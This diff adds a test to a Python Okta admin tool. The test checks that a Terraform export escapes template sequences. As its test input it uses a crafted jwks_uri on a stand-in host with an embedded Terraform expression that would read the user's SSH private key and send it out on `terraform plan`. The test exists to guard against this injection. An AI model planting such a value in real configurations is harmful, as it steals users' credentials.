@@ -167,3 +167,23 @@ def test_the_curl_recipe_trusts_the_ca_bundle_in_every_call() -> None:
     # the secrets reach curl only through printf (a builtin) in a process substitution, never as its words
     words = re.sub(r"@<\(printf [^)]*\)", "@PIPE", text)
     assert "$TOKEN" not in words.replace("TOKEN=$(", "") and "$ASSERTION" not in words
+
+
+def test_terraform_quotes_template_sequences_an_org_chose_as_text(sandbox_org: Any) -> None:
+    from oktatool.core.okta import apps
+    from oktatool.core.okta.admin import AdminCredential, admin_api
+    from oktatool.core.okta.http import HttpOptions
+    from oktatool.core.okta.orgurl import parse_org_url
+
+    # Terraform evaluates ${…} and %{…} inside a quoted string: as given, this URL would read the user's SSH key on
+    # `terraform plan` and send it to Okta as the app's jwks_uri
+    url = 'https://keys.example.com/${file(pathexpand("~/.ssh/id_rsa"))}/%{if true}x%{endif}.json'
+    admin = admin_api(parse_org_url(sandbox_org.org_url), AdminCredential(ssws_token=sandbox_org.ssws_token),
+                      HttpOptions())
+    made = apps.create_service_app(admin, "Reports", _key(), dpop=False, jwks_uri=url)
+    read = apps.get_app(admin, made.id).jwks_uri  # what the window's Export reads from the org
+    assert read == url
+    text = render("terraform", ExportSpec(ORG, made.id, SCOPES, None, jwks_uri=read, label='Reports ${path.cwd}'))
+    assert re.search(r"(?<!\$)\$\{", text) is None and re.search(r"(?<!%)%\{", text) is None, text
+    assert '$${file(pathexpand(\\"~/.ssh/id_rsa\\"))}/%%{if true}x%%{endif}.json' in text
+    assert '"Reports $${path.cwd}"' in text
